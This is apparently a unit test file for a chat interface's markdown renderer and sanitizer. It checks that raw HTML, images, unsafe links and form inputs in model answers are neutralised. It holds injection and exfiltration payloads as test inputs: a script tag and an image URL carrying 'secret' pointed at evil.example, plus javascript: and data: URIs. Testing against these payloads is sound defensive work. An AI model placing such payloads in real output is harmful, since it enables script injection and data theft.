/**
 * Examples of what an answer looks like once rendered (utils/render/markdown.ts), and of what the
 * sanitizer is told to keep. Model output is untrusted: raw HTML must come out as text, pictures
 * as their description, links only to the web or to mail, each in a new tab.
 *
 * No DOM that unit tests have is one DOMPurify supports (see markdown.properties.test.ts), so a
 * stand-in records the configuration and the hook renderMarkdown hands it, and passes the HTML
 * through: the renderer's own output is checked as it is, and the hook on stand-in elements.
 * DOMPurify applying that configuration in a browser is covered by test/e2e/conversation.e2e.ts.
 */
import type { Config } from 'dompurify';
import { beforeEach, describe, expect, it, vi } from 'vitest';

type Hook = (node: Element) => void;
const purify = vi.hoisted(() => {
  const seen: { hooks: { entryPoint: string; hook: Hook }[]; config?: Config } = { hooks: [] };
  return {
    seen,
    standIn: {
      addHook: (entryPoint: string, hook: Hook) => void seen.hooks.push({ entryPoint, hook }),
      sanitize: (html: string, config: Config) => {
        seen.config = config;
        return html;
      },
    },
  };
});
vi.mock('dompurify', () => ({ default: purify.standIn }));

// Each test loads the renderer afresh, so each one sees it hand DOMPurify its hook and configuration
// (the renderer adds its hook once per load).
let renderMarkdown: (markdown: string) => string;
beforeEach(async () => {
  vi.resetModules();
  purify.seen.hooks.length = 0;
  purify.seen.config = undefined;
  ({ renderMarkdown } = await import('../../utils/render/markdown'));
});

describe('what the renderer writes', () => {
  it.each([
    ['**bold** _italic_ ~~struck~~ `code`', '<p><strong>bold</strong> <em>italic</em> <del>struck</del> <code>code</code></p>\n'],
    // A single line break in an answer is a line break on screen (models write lists that way).
    ['first line\nsecond line', '<p>first line<br>second line</p>\n'],
    ['| a | b |\n|:-|-:|\n| 1 | 2 |', '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n<th align="right">b</th>\n</tr>\n</thead>\n<tbody><tr>\n<td align="left">1</td>\n<td align="right">2</td>\n</tr>\n</tbody></table>\n'],
    ['- [x] done\n- [ ] to do', '<ul>\n<li><input checked="" disabled="" type="checkbox"> done</li>\n<li><input disabled="" type="checkbox"> to do</li>\n</ul>\n'],
    ['[the docs](https://example.com/docs "Docs")', '<p><a href="https://example.com/docs" title="Docs">the docs</a></p>\n'],
    ['```js\nlet a = 1 < 2;\n```', '<pre><code class="language-js">let a = 1 &lt; 2;\n</code></pre>\n'],
  ])('%j', (markdown, html) => {
    expect(renderMarkdown(markdown)).toBe(html);
  });
});

describe('raw HTML in an answer is shown as text', () => {
  it('with every character that could open a tag or an attribute escaped', () => {
    expect(renderMarkdown(`say <b title="t" data='y'>&</b> now`)).toBe(
      '<p>say &lt;b title=&quot;t&quot; data=&#39;y&#39;&gt;&amp;&lt;/b&gt; now</p>\n',
    );
  });

  it('on a line of its own', () => {
    expect(renderMarkdown('<script src="https://evil.example/x.js"></script>')).toBe(
      '&lt;script src=&quot;https://evil.example/x.js&quot;&gt;&lt;/script&gt;',
    );
  });

  it('and the words after an inline <code> tag stay words', () => {
    expect(renderMarkdown('<code>if a<b then</code> after')).toBe('<p>&lt;code&gt;if a&lt;b then&lt;/code&gt; after</p>\n');
  });
});

describe('pictures in an answer are never loaded', () => {
  it('a picture is replaced by its description, escaped', () => {
    expect(renderMarkdown(`![a "cat" <b> & 'dog'](https://evil.example/leak.png?d=secret)`)).toBe(
      '<p><span class="blocked-image">[a &quot;cat&quot; &lt;b&gt; &amp; &#39;dog&#39;]</span></p>\n',
    );
  });

  it('a picture with no description is called an image', () => {
    expect(renderMarkdown('![](https://evil.example/p.png)')).toBe('<p><span class="blocked-image">[image]</span></p>\n');
  });
});

describe('what the sanitizer is told', () => {
  const config = () => {
    renderMarkdown('x');
    return purify.seen.config!;
  };

  it('keeps exactly the elements the renderer writes', () => {
    // One missing drops part of every answer that uses it; one more lets a model's markup through.
    expect(config().ALLOWED_TAGS).toEqual([
      'p', 'br', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'span',
      'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input',
    ]);
  });

  it('keeps exactly the attributes the renderer and the link hook write, and no style or event handler', () => {
    expect([...(config().ALLOWED_ATTR ?? [])].sort()).toEqual(
      ['align', 'checked', 'class', 'disabled', 'href', 'rel', 'start', 'target', 'title', 'type'],
    );
  });

  it.each([
    ['https://example.com', true],
    ['http://example.com', true],
    ['HTTPS://EXAMPLE.COM', true],
    ['mailto:someone@example.com', true],
    ['javascript:alert(1)', false],
    ['data:text/html;base64,PHNjcmlwdD4=', false],
    ['ftp://example.com', false],
    ['chrome-extension://abc/options.html', false],
    ['see https://example.com', false],
  ])('lets a link to %j be kept: %s', (href, kept) => {
    expect(config().ALLOWED_URI_REGEXP!.test(href)).toBe(kept);
  });

  it('is given its hook once, however many answers are rendered', () => {
    renderMarkdown('one');
    renderMarkdown('two');
    renderMarkdown('three');
    expect(purify.seen.hooks.map((h) => h.entryPoint)).toEqual(['afterSanitizeAttributes']);
  });
});

/** An element as the hook sees it after DOMPurify's own checks. */
class StandIn {
  readonly attributes: Map<string, string>;
  removed = false;
  constructor(readonly tagName: string, attributes: Record<string, string> = {}) {
    this.attributes = new Map(Object.entries(attributes));
  }
  getAttribute(name: string) { return this.attributes.get(name) ?? null; }
  setAttribute(name: string, value: string) { this.attributes.set(name, value); }
  removeAttribute(name: string) { this.attributes.delete(name); }
  remove() { this.removed = true; }
}

function afterHook(tagName: string, attributes: Record<string, string> = {}): StandIn {
  renderMarkdown('x');
  const element = new StandIn(tagName, attributes);
  for (const { hook } of purify.seen.hooks) hook(element as unknown as Element);
  return element;
}

describe('the link hook', () => {
  it.each(['https://example.com/a', 'http://example.com', 'MAILTO:someone@example.com'])('keeps a link to %s, opening in a new tab', (href) => {
    expect(Object.fromEntries(afterHook('A', { href }).attributes)).toEqual({ href, target: '_blank', rel: 'noopener noreferrer' });
  });

  it.each(['javascript:alert(1)', 'chrome-extension://abc/options.html', '/relative', '#top', ''])('takes away a link to %j, keeping its words', (href) => {
    const link = afterHook('A', { href, title: 'T' });
    expect(Object.fromEntries(link.attributes)).toEqual({ title: 'T', target: '_blank', rel: 'noopener noreferrer' });
    expect(link.removed).toBe(false);
  });

  it('gives a link with no address a new tab too (nothing it could reach back with)', () => {
    expect(Object.fromEntries(afterHook('A').attributes)).toEqual({ target: '_blank', rel: 'noopener noreferrer' });
  });

  it('leaves other elements as they are', () => {
    const span = afterHook('SPAN', { class: 'blocked-image' });
    expect(Object.fromEntries(span.attributes)).toEqual({ class: 'blocked-image' });
    expect(span.removed).toBe(false);
  });
});

describe('the task-list hook', () => {
  it('makes a task list\'s checkbox one that cannot be ticked', () => {
    const box = afterHook('INPUT', { type: 'checkbox', checked: '' });
    expect(Object.fromEntries(box.attributes)).toEqual({ type: 'checkbox', checked: '', disabled: '' });
    expect(box.removed).toBe(false);
  });

  it.each<Record<string, string>>([{ type: 'text' }, { type: 'image' }, { type: 'submit' }, {}])('removes any other input, %j', (attributes) => {
    expect(afterHook('INPUT', attributes).removed).toBe(true);
  });
});
